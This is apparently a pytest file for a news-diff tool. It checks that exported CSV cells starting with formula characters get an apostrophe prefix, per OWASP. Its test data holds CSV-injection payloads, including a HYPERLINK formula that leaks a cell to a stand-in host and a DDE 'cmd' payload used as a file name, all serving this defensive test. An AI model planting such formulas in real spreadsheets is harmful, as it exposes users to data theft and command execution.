"""Issue 19 item 3: CSV cells never start a spreadsheet formula.

OWASP's CSV-injection guidance: a text cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe. Article
sentences here are written to start with formulas; the CSV must carry them
as text and still hold the words.
"""

from __future__ import annotations

import csv
import io

import pytest

from newsdiff_gui.engine.align.aligner import align
from newsdiff_gui.engine.changes import read_changes
from newsdiff_gui.engine.load.articles import documents_from_texts
from newsdiff_gui.engine.report import changes_csv
from newsdiff_gui.engine.report.spreadsheet_safe import FORMULA_STARTS, neutralise_cell

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
ORIGINAL = (
    "Council approves bridge plan\n\n"
    "The council approved the bridge plan on Monday, officials said.\n\n"
    "Work will start in March and last eighteen months, the mayor said.\n"
)
HOSTILE = (
    "Council approves bridge plan\n\n"
    "The council approved the bridge plan on Tuesday, officials said.\n\n"
    f"{FORMULA} and more words follow here.\n\n"
    "+1 more line that looks like a sum was added to the story.\n\n"
    "@SUM(A1:A9) is how the other one starts its new sentence.\n"
)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3 people", "'-3 people"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n=1", "'\n=1"),
        ("a = b", "a = b"),
        ("", ""),
        ("The council", "The council"),
        (42, 42),
        (None, None),
    ],
)
def test_cells_are_neutralised_per_owasp(cell: object, expected: object) -> None:
    assert neutralise_cell(cell) == expected


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) or cell.lstrip(" \n").startswith(FORMULA_STARTS)


def test_change_csv_carries_formulas_as_text() -> None:
    alignment = align(documents_from_texts([("a.txt", ORIGINAL), ("=cmd|' /C calc'!A0", HOSTILE)]))
    rows = list(csv.reader(io.StringIO(changes_csv(read_changes(alignment)))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells), cells
    assert not [cell for cell in cells if _dangerous(cell)]
